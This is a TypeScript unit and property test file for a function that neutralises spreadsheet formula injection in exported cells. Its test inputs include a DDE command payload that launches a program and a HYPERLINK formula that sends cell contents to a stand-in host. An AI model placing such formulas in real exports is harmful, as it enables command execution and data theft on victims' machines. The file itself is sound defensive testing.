import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralise } from './export.ts';

// A cell a spreadsheet program would read as a formula (or whose leading control character it strips).
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

describe('neutralise (SECURITY 16)', () => {
  it('puts a quote before cells starting with = + - @, a tab or a carriage return', () => {
    for (const value of [
      '=1+1',
      '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
      '+44 7700 900123',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '-',
      '@SUM(A1:A9)',
      '\t=1+2',
      '\r=3+4',
      '=',
      '+1',
      '-3e2',
    ])
      expect(neutralise(value), JSON.stringify(value)).toBe(`'${value}`);
  });

  it('leaves every other cell untouched, plain negative numbers included', () => {
    for (const value of [
      '',
      'Lancashire',
      'a=b',
      ' =1+1',
      "'=already quoted",
      '\n=1',
      '12',
      '-3',
      '-12.5',
      'c',
      'NOT_RECORDED',
      'Total (years)',
    ])
      expect(neutralise(value), JSON.stringify(value)).toBe(value);
  });

  it('for any text: the result is the text or the text after a quote, and never starts a formula', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string().map((s) => `${'=+-@\t\r'[s.length % 6]}${s}`),
        ),
        (value) => {
          const out = neutralise(value);
          expect([value, `'${value}`]).toContain(out);
          if (!FORMULA_START.test(value)) expect(out).toBe(value);
          if (!PLAIN_NUMBER.test(value)) expect(out).not.toMatch(FORMULA_START);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
